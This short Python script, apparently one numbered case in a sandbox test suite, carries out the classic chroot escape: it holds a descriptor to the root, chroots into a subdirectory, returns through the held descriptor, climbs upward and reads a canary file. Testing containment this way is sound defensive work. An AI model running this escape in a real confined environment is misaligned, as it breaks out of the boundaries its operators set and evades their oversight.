"""F-07: the classic break: chroot below a directory that is held open, then climb from it."""
import os
from attempts import CANARY, attempt, report

held = os.open("/", os.O_RDONLY)
os.mkdir("below")
attempt("chroot", lambda: os.chroot("below"))
attempt("change to the held directory", lambda: os.fchdir(held))
for _ in range(64):
    os.chdir("..")
attempt("chroot to where that led", lambda: os.chroot("."))
attempt("read the canary from there", lambda: open(CANARY.lstrip("/")).read())
report()
